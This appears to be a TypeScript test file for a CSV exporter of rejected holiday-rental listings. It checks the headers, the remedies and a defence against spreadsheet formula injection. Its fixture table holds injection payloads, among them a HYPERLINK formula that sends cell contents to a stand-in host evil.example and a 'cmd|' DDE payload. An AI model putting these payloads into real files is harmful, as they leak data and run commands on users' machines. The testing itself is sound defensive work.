import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Rejection } from './rejection.ts';
import { rejectionsCsv } from './rejections-csv.ts';

const held: Rejection = {
  reference: 'casa-1',
  field: 'images/0/url',
  rule: 'address_not_https',
  reason: 'must begin with https://',
  value: 'http://casas.example/1.jpg',
  repaired: true,
};
const HEADER = 'brand,reference,place,rule,value,reason,remedy,repaired';

describe('what is held back, as CSV', () => {
  it('has a header, and a row with the remedy for each part', () => {
    assert.equal(
      rejectionsCsv([
        {
          brand: 'sol',
          rejections: [
            held,
            { reference: 'casa-2', field: '', rule: 'over_budget', reason: 'is "too much", again' },
          ],
          unmappedAmenities: [
            { amenity: 'Moat', listings: 2 },
            { amenity: 'Igloo', listings: 1 },
          ],
        },
      ]),
      [
        HEADER,
        'sol,casa-1,images/0/url,address_not_https,http://casas.example/1.jpg,must begin with https://,"Serve the page or picture over https, and link to it so.",true',
        'sol,casa-2,listing,over_budget,,"is ""too much"", again",Ask the owner of the network to raise `budget.listings` or `budget.megabytes` in the entry of the brand.,false',
        'sol,,amenities,unknown_amenity,Moat,is in 2 listings and not in the vocabulary,"Use one of the standard amenities of your booking system, where one means the same.",true',
        'sol,,amenities,unknown_amenity,Igloo,is in 1 listing and not in the vocabulary,"Use one of the standard amenities of your booking system, where one means the same.",true',
        '',
      ].join('\r\n'),
    );
    assert.equal(rejectionsCsv([]), `${HEADER}\r\n`);
  });

  for (const [formula, shown] of [
    ['=HYPERLINK("https://evil.example?"&A1)', `'=HYPERLINK("https://evil.example?"&A1)`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['  =1+1', "'  =1+1"],
    ['"=1+1', `'"=1+1`],
    ['＝1+1', "'＝1+1"],
    ['\t=1+1', "'\t'=1+1"],
    ['\n=1', "'\n'=1"],
    ['Lisbon;=cmd|calc', "Lisbon;'=cmd|calc"],
    ['Lisbon; "=1', `Lisbon; "'=1`],
    ['a;b;;@c;＋1', "a;b;;'@c;'＋1"],
    ['a\t-1\r\n+1', "a\t'-1\r\n'+1"],
    ['a|=1,=2', "a|'=1,'=2"],
  ] as const) {
    it(`holds no formula: ${JSON.stringify(formula)}`, () => {
      const [, row] = parsed(rejectionsCsv([{ brand: 'sol', rejections: [{ ...held, value: formula }] }]));
      assert.equal(row?.[4], shown);
    });
  }

  it('holds no formula for a spreadsheet that parts at another sign, whether or not it knows quotes', () => {
    const text = fc.string({ unit: fc.constantFrom(...'",;|\t\r\n\'=+-@a ') });
    fc.assert(
      fc.property(text, text, (reference, value) => {
        const csv = rejectionsCsv([{ brand: 'sol', rejections: [{ ...held, reference, value }] }]);
        for (const separator of [';', '|', '\t', ',']) {
          for (const cell of csv.split(/[\r\n]/).flatMap((line) => line.split(separator))) {
            assert.doesNotMatch(cell.replace(/^[\s"]+/, ''), /^[=+\-@]/);
          }
        }
      }),
    );
  });

  it('reads back as it was, whatever an operator wrote', () => {
    const text = fc.string({ unit: fc.constantFrom(...'",\r\n\'=a +;é') });
    fc.assert(
      fc.property(text, text, (reference, value) => {
        const rows = parsed(rejectionsCsv([{ brand: 'sol', rejections: [{ ...held, reference, value }] }]));
        assert.equal(rows.length, 2);
        const [, row] = rows;
        assert.equal(row?.length, 8);
        for (const [at, written] of [
          [1, reference],
          [4, value],
        ] as const) {
          const cell: string = row?.[at] ?? '';
          // Nothing but apostrophes was added.
          assert.equal(cell.replaceAll("'", ''), written.replaceAll("'", ''));
          assert.doesNotMatch(cell.trim(), /^[=+\-@]/);
        }
      }),
    );
  });
});

/** A plain reader of RFC 4180, sign by sign. */
function parsed(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < csv.length; at += 1) {
    const sign = csv[at];
    if (isQuoted) {
      if (sign === '"' && csv[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else if (sign === '"') isQuoted = false;
      else cell += sign;
    } else if (sign === '"') isQuoted = true;
    else if (sign === ',' || (sign === '\r' && csv[at + 1] === '\n')) {
      row.push(cell);
      cell = '';
      if (sign === '\r') {
        rows.push(row);
        row = [];
        at += 1;
      }
    } else cell += sign;
  }
  return rows;
}
